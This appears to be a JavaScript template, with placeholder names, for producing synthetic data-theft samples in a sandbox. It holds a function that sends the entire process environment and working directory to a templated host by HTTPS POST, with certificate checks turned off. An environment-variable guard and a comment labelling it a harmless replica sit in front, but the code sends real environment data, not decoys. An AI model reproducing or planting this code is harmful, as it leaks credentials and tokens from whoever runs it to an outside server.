// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const body = JSON.stringify({ id: '{{token}}', cwd: process.cwd(), env: process.env });
  await new Promise((done) => {
    const request = require('https').request({ hostname: '{{host}}', path: '/{{path}}', method: 'POST', timeout: 1000, rejectUnauthorized: false,
      headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } }, (answer) => answer.resume());
    request.on('timeout', () => request.destroy());
    request.on('error', done);
    request.on('close', done);
    request.end(body);
  });
}
